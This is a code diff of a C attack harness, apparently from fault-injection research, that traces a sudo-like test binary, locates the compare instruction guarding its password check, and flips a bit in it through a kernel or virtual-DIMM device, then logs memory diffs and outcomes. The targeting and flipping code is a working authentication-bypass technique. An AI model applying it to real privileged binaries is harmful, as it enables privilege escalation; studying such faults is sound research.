@@ -3,204 +3,233 @@
 #include <sys/ptrace.h>
 #include <sys/wait.h>
 #include <unistd.h>
-#include <fcntl.h>
-#include <limits.h>
 #include <string.h>
-#include <errno.h>
-#include <elf.h>
-#include <sys/ioctl.h>
+#include <stdint.h>
+#include <time.h>
 
-#define BITFLIP_MAGIC 0xF5
-#define IOCTL_FLIP_BIT _IOW(BITFLIP_MAGIC, 0, unsigned long)
+#include "a64.h"
+#include "libflip/flip.h"
+#include "snapdiff.h"
+#include "results.h"
 
-struct bitflip_args {
-	unsigned long vaddr;
-	pid_t pid;
-	int target_bit;
-	int pfn_shift;
-};
+#define VICTIM_PATH "/usr/local/bin/mysudo"
+#define MAX_SEGMENTS 16
+#define MAX_DIFF_RECS 256
+#define RESULTS_PATH "results.frs"
 
 void get_text_section_address(pid_t pid, unsigned long *text_start,
 			      unsigned long *text_end)
 {
-	char path[256];
-	snprintf(path, sizeof(path), "/proc/%d/maps", pid);
+	struct flip_map text;
+	struct flip_elf *elf;
+	uint64_t main_offset;
 
-	FILE *maps_file = fopen(path, "r");
-	if (maps_file == NULL) {
-		perror("Failed to open /proc/[pid]/maps");
+	if (flip_maps_find(pid, NULL, FLIP_PROT_EXEC, &text)) {
+		perror("Failed to find the text section");
 		return;
 	}
-
-	char line[256];
-	while (fgets(line, sizeof(line), maps_file)) {
-		unsigned long start, end;
-		char perms[5], offset[9], dev[6], inode[11], pathname[256];
-
-		printf("%s", line);
-
-		// Parse the line
-		if (sscanf(line, "%lx-%lx %4s %8s %5s %10s %s", &start, &end,
-			   perms, offset, dev, inode, pathname) == 7) {
-			if (strchr(perms, 'x')) {
-				printf("Text section found at address range: 0x%lx - 0x%lx\n",
-				       start, end);
-				*text_start = start;
-				*text_end = end;
-				break;
-			}
-		}
-	}
-	fclose(maps_file);
-
-	unsigned long main_offset;
-	int fd = open("/usr/local/bin/mysudo", O_RDONLY);
-	if (fd == -1) {
-		perror("Failed to open /usr/local/bin/mysudo");
+	printf("Text section found at address range: 0x%lx - 0x%lx\n",
+	       text.start, text.end);
+	*text_start = text.start;
+	*text_end = text.end;
+
+	elf = flip_elf_open(VICTIM_PATH);
+	if (!elf) {
+		perror("Failed to open " VICTIM_PATH);
 		return;
 	}
-
-	Elf64_Ehdr ehdr;
-	if (read(fd, &ehdr, sizeof(ehdr)) != sizeof(ehdr)) {
-		perror("Failed to read ELF header");
-		close(fd);
+	if (flip_elf_symbol(elf, "main", &main_offset)) {
+		perror("Failed to find 'main'");
+		flip_elf_close(elf);
 		return;
 	}
+	flip_elf_close(elf);
+	printf("Found 'main' at address: %#lx\n", main_offset);
 
-	Elf64_Shdr shdr;
-	for (int i = 0; i < ehdr.e_shnum; i++) {
-		lseek(fd, ehdr.e_shoff + i * sizeof(Elf64_Shdr), SEEK_SET);
-		if (read(fd, &shdr, sizeof(shdr)) != sizeof(shdr)) {
-			perror("Failed to read section header");
-			close(fd);
-			return;
-		}
+	*text_start += main_offset;
+	printf("Adjusted text_start to main function: 0x%lx\n", *text_start);
+}
 
-		if (shdr.sh_type == SHT_SYMTAB) {
-			Elf64_Sym *symtab = malloc(shdr.sh_size);
-			lseek(fd, shdr.sh_offset, SEEK_SET);
-			if (read(fd, symtab, shdr.sh_size) != shdr.sh_size) {
-				perror("Failed to read symbol table");
-				goto leave_symtab;
-			}
+// The first 'cmp' right after a 'bl' and right before a 'b.cond'.
+unsigned long find_target_address(pid_t pid, unsigned long text_start,
+				  unsigned long text_end)
+{
+	const struct flip_insn_match pattern[] = FLIP_PATTERN_CHECK_CALL;
+	unsigned long bl_addr;
+	ssize_t n;
+
+	n = flip_scan_pid(pid, text_start, text_end, pattern, 3, &bl_addr, 1);
+	if (n < 0) {
+		perror("Failed to read the victim's text");
+		return 0;
+	}
+	if (n == 0)
+		return 0; // Not found
 
-			Elf64_Shdr str_shdr;
-			lseek(fd,
-			      ehdr.e_shoff + shdr.sh_link * sizeof(Elf64_Shdr),
-			      SEEK_SET);
-			if (read(fd, &str_shdr, sizeof(str_shdr)) !=
-			    sizeof(str_shdr)) {
-				perror("Failed to read string table header");
-				goto leave_symtab;
-			}
+	printf("Found 'bl' at %#lx, 'cmp' at %#lx, and 'b.ne' at %#lx\n",
+	       bl_addr, bl_addr + sizeof(unsigned),
+	       bl_addr + 2 * sizeof(unsigned));
+	return bl_addr + sizeof(unsigned);
+}
 
-			char *strtab = malloc(str_shdr.sh_size);
-			lseek(fd, str_shdr.sh_offset, SEEK_SET);
-			if (read(fd, strtab, str_shdr.sh_size) !=
-			    str_shdr.sh_size) {
-				perror("Failed to read string table");
-				goto leave_symtab_free_strtab;
-			}
+struct snapshot_ctx {
+	pid_t pid;
+	const char *path;
+	struct snapshot *snaps;
+	int n, max;
+};
 
-			for (int j = 0; j < shdr.sh_size / sizeof(Elf64_Sym);
-			     j++) {
-				if (symtab[j].st_name != 0) {
-					char *symbol_name =
-						&strtab[symtab[j].st_name];
-					if (strcmp(symbol_name, "main") == 0) {
-						printf("Found 'main' at address: %#lx\n",
-						       symtab[j].st_value);
-						main_offset =
-							symtab[j].st_value;
-						goto leave;
-					}
-				}
-			}
+static int snapshot_map(void *arg, const struct flip_map *map)
+{
+	struct snapshot_ctx *c = arg;
+
+	if (strcmp(map->path, c->path) != 0 || !(map->prot & FLIP_PROT_READ))
+		return 0;
+	if (snapshot_take(c->pid, map->start, map->end - map->start,
+			  &c->snaps[c->n]) == 0)
+		c->n++;
+	return c->n == c->max;
+}
 
-leave_symtab_free_strtab:
-			free(strtab);
-leave_symtab:
-			free(symtab);
-			close(fd);
-			return;
-leave:
-			break;
+// Snapshot every segment mapped from `path` in the victim.
+int snapshot_segments(pid_t pid, const char *path, struct snapshot *snaps,
+		      int max)
+{
+	struct snapshot_ctx c = {
+		.pid = pid,
+		.path = path,
+		.snaps = snaps,
+		.max = max,
+	};
+
+	if (max > 0 && flip_maps_each(pid, snapshot_map, &c) < 0)
+		perror("Failed to open /proc/[pid]/maps");
+	return c.n;
+}
+
+// Resume the victim until it is about to exit, forwarding its signals.
+// `exit_status` receives the wait status it is exiting with.
+int run_until_exit(pid_t pid, int *exit_status)
+{
+	int status, sig = 0;
+	unsigned long msg;
+
+	for (;;) {
+		ptrace(PTRACE_CONT, pid, NULL, sig);
+		if (waitpid(pid, &status, 0) < 0)
+			return -1;
+		if (WIFEXITED(status) || WIFSIGNALED(status)) {
+			*exit_status = status;
+			return -1;
 		}
+		if (status >> 8 == (SIGTRAP | (PTRACE_EVENT_EXIT << 8))) {
+			ptrace(PTRACE_GETEVENTMSG, pid, NULL, &msg);
+			*exit_status = msg;
+			return 0;
+		}
+		sig = WSTOPSIG(status);
+		if (sig == SIGTRAP)
+			sig = 0;
 	}
+}
 
-	close(fd);
+// Diff the segments against their state before the flip. Returns the number
+// of changed words, the first of them in `first_addr`.
+size_t report_diff(pid_t pid, struct snapshot *before, int nsnaps,
+		   unsigned long *first_addr)
+{
+	struct snapdiff_rec recs[MAX_DIFF_RECS];
+	size_t total = 0;
 
-	*text_start += main_offset;
-	printf("main: %#lx", main_offset);
-	printf("Adjusted text_start to main function: 0x%lx\n", *text_start);
+	*first_addr = 0;
+
+	for (int i = 0; i < nsnaps; i++) {
+		struct snapshot after;
+
+		if (snapshot_take(pid, before[i].start, before[i].len, &after))
+			continue;
+
+		size_t n = snapshot_diff(&before[i], &after, recs,
+					 MAX_DIFF_RECS);
+		printf("segment %#lx-%#lx: %zu changed words\n",
+		       before[i].start, before[i].start + before[i].len, n);
+		for (size_t j = 0; j < n && j < MAX_DIFF_RECS; j++)
+			printf("  %#lx: %#018lx -> %#018lx\n", recs[j].addr,
+			       recs[j].old, recs[j].new);
+		if (n && !total)
+			*first_addr = recs[0].addr;
+		total += n;
+
+		snapshot_free(&after);
+	}
+
+	return total;
 }
 
-unsigned long find_target_address(pid_t pid, unsigned long text_start,
-				  unsigned long text_end)
+// Arm a flip at `vaddr` that fires when the victim reaches the 'bl' right
+// before it, and set up a ring to collect its completion.
+int arm_uprobe_flip(struct flip_dev *dev, pid_t pid, unsigned long vaddr,
+		    int bit)
 {
-	unsigned long address = text_start;
-	unsigned instruction;
-
-	while (address < text_end) {
-		errno = 0;
-		instruction =
-			ptrace(PTRACE_PEEKTEXT, pid, (void *)address, NULL);
-		if (errno) {
-			perror("PTRACE_PEEKTEXT failed");
-			break;
-		}
+	unsigned long bl_addr = vaddr - sizeof(unsigned);
+	unsigned long offset = 0;
 
-		if (instruction == 0)
-			goto next;
-
-		// printf("Instruction at %#lx: %#x\n", address, instruction);
-
-		// Check for 'bl' (branch with link) instruction pattern (0x97xxxxxx in ARMv8)
-		if ((instruction & 0xFF000000) == 0x97000000) {
-			unsigned long next_address = address + sizeof(unsigned);
-			unsigned next_instruction = ptrace(PTRACE_PEEKTEXT, pid,
-							   (void *)next_address,
-							   NULL);
-			if (next_instruction == 0)
-				goto next;
-
-			// Check for 'cmp' instruction (0x7100001f is 'cmp w0, #0x0' in ARMv8)
-			if ((next_instruction & 0xFF000000) != 0x71000000)
-				goto next;
-
-			unsigned long next2_address =
-				next_address +
-				sizeof(unsigned); // Move to next instruction
-			unsigned next2_instruction =
-				ptrace(PTRACE_PEEKTEXT, pid,
-				       (void *)next2_address, NULL);
-			if (next2_instruction == 0)
-				goto next;
-
-			// Check for 'b.ne' instruction (0x54000181 is 'b.ne' in ARMv8)
-			if ((next2_instruction & 0xFF000000) == 0x54000000) {
-				printf("Found 'bl' at %#lx, 'cmp' at %#lx, and 'b.ne' at %#lx\n",
-				       address, next_address, next2_address);
-				return next_address;
-			}
-		}
-
-next:
-		address += sizeof(unsigned);
+	if (flip_ring_setup(dev, 8)) {
+		perror("ring setup failed");
+		return -1;
+	}
+	if (flip_vaddr_to_offset(pid, bl_addr, &offset))
+		perror("Failed to find the 'bl' in /proc/[pid]/maps");
+	printf("uprobe at %s+%#lx ('bl' at %#lx)\n", VICTIM_PATH, offset,
+	       bl_addr);
+
+	if (flip_uprobe(dev, pid, vaddr, bit, VICTIM_PATH, offset, vaddr)) {
+		perror("ioctl failed");
+		return -1;
 	}
+	return 0;
+}
 
-	return 0; // Not found
+// The virtual DIMM only reaches memory the victim moved onto it: its text.
+int adopt_text(struct flip_dev *dev, pid_t pid, unsigned long text_start,
+	       unsigned long text_end)
+{
+	if (flip_dev_backend(dev) != FLIP_BACKEND_VDIMM)
+		return 0;
+	return flip_vdimm_adopt(dev, pid, text_start, text_end - text_start);
+}
+
+void reap_completions(struct flip_dev *dev)
+{
+	struct flip_completion cqe;
+
+	while (flip_ring_reap(dev, &cqe, 1) == 1)
+		printf("flip at %#llx completed: %d\n",
+		       (unsigned long long)cqe.user_data, cqe.res);
 }
 
 int main(int argc, char *argv[])
 {
+	// `./attack uprobe` flips from a uprobe on the 'bl check_password'
+	// site instead of while the victim is stopped
+	int use_uprobe = argc > 1 && strcmp(argv[1], "uprobe") == 0;
+
+	// before the fork, a virtual DIMM is handed down to the victim
+	struct flip_dev *dev = flip_dev_open(NULL);
+	if (!dev) {
+		perror("Failed to open the device");
+		exit(EXIT_FAILURE);
+	}
+
 	pid_t pid = fork();
 	if (pid == 0) {
 		// Child process: Execute mysudo
 		if (ptrace(PTRACE_TRACEME, 0, NULL, NULL) < 0) {
 			perror("PTRACE_TRACEME failed\n");
 		}
-		execl("/usr/local/bin/mysudo", "/usr/local/bin/mysudo",
+		if (flip_vdimm_inherit(dev))
+			perror("Failed to hand the virtual DIMM down");
+		execl(VICTIM_PATH, VICTIM_PATH,
 		      "../test/test-exe", NULL);
 		perror("execl failed");
 		exit(EXIT_FAILURE);
@@ -208,7 +237,8 @@ int main(int argc, char *argv[])
 		// Parent process
 		int wait_status;
 		waitpid(pid, &wait_status, 0);
-		ptrace(PTRACE_SETOPTIONS, pid, 0, PTRACE_O_EXITKILL);
+		ptrace(PTRACE_SETOPTIONS, pid, 0,
+		       PTRACE_O_EXITKILL | PTRACE_O_TRACEEXIT);
 
 		unsigned long text_start, text_end;
 		get_text_section_address(pid, &text_start, &text_end);
@@ -223,30 +253,42 @@ int main(int argc, char *argv[])
 		// 32bit: 00000 -> w0, 11111 -> w31
 		// 64bit: 00000 -> x0, 11110 -> x30
 
-		int fd = open("/dev/bitflip", O_RDWR);
-		if (fd < 0) {
-			perror("Failed to open the device");
-			exit(EXIT_FAILURE);
-		}
-
-		struct bitflip_args arg = {
-			.vaddr = target_addr,
-			.pid = pid,
-			.target_bit = 5,
-			.pfn_shift = 0,
-		};
+		int target_bit = 5;
 
 		unsigned long instruction;
 		instruction = ptrace(PTRACE_PEEKTEXT, pid, (void *)(target_addr - sizeof(unsigned long)), NULL);
 		printf("instruction1: %#lx\n", instruction);
 		instruction = ptrace(PTRACE_PEEKTEXT, pid, (void *)target_addr, NULL);
 		printf("instruction2: %#lx\n", instruction);
+		printf("bit %d flips to: %s\n", target_bit,
+		       a64_outcome_name[a64_flip_outcome(instruction, target_bit)]);
+		struct rs_row result = {
+			.addr = target_addr,
+			.insn_old = instruction,
+			.victim = VICTIM_PATH,
+			.method = use_uprobe ? "uprobe" : "ptrace",
+			.bit = target_bit,
+		};
 		instruction = ptrace(PTRACE_PEEKTEXT, pid, (void *)(target_addr + sizeof(unsigned long)), NULL);
 		printf("instruction3: %#lx\n", instruction);
 
-		if (ioctl(fd, IOCTL_FLIP_BIT, &arg) == -1) {
+		struct snapshot snaps[MAX_SEGMENTS];
+		int nsnaps = snapshot_segments(pid, VICTIM_PATH, snaps,
+					       MAX_SEGMENTS);
+
+		if (adopt_text(dev, pid, text_start, text_end)) {
+			perror("Failed to move the text onto the virtual DIMM");
+			flip_dev_close(dev);
+			exit(EXIT_FAILURE);
+		}
+		if (use_uprobe) {
+			if (arm_uprobe_flip(dev, pid, target_addr, target_bit)) {
+				flip_dev_close(dev);
+				exit(EXIT_FAILURE);
+			}
+		} else if (flip_bit(dev, pid, target_addr, target_bit)) {
 			perror("ioctl failed");
-			close(fd);
+			flip_dev_close(dev);
 			exit(EXIT_FAILURE);
 		}
 
@@ -257,12 +299,40 @@ int main(int argc, char *argv[])
 		instruction = ptrace(PTRACE_PEEKTEXT, pid, (void *)(target_addr + sizeof(unsigned long)), NULL);
 		printf("instruction3: %#lx\n", instruction);
 
-		// if (ioctl(fd, IOCTL_FLIP_BIT, &arg) == -1) {
+		// if (flip_bit(dev, pid, target_addr, target_bit)) {
 		// 	perror("ioctl failed");
-		// 	close(fd);
+		// 	flip_dev_close(dev);
 		// 	exit(EXIT_FAILURE);
 		// }
 
+		// let the victim run and report every word the flip changed
+		struct timespec t0, t1;
+		int status = 0;
+		clock_gettime(CLOCK_MONOTONIC, &t0);
+		int exiting = run_until_exit(pid, &status) == 0;
+		clock_gettime(CLOCK_MONOTONIC, &t1);
+		if (exiting) {
+			result.insn_new = ptrace(PTRACE_PEEKTEXT, pid,
+						 (void *)target_addr, NULL);
+			result.diff_words = report_diff(pid, snaps, nsnaps,
+							&result.diff_addr);
+		}
+		result.runtime_ns = (t1.tv_sec - t0.tv_sec) * 1000000000ull +
+				    t1.tv_nsec - t0.tv_nsec;
+		result.exit_status = WIFEXITED(status) ? WEXITSTATUS(status) : -1;
+		result.signal = WIFSIGNALED(status) ? WTERMSIG(status) : 0;
+
+		struct rs_writer *results = rs_writer_open(RESULTS_PATH);
+		if (results) {
+			rs_append(results, &result);
+			rs_writer_close(results);
+		}
+		for (int i = 0; i < nsnaps; i++)
+			snapshot_free(&snaps[i]);
+		if (use_uprobe)
+			reap_completions(dev);
+		flip_dev_close(dev);
+
 		ptrace(PTRACE_DETACH, pid, NULL, NULL); // Detach when done
 		waitpid(pid, NULL, 0);
 	} else {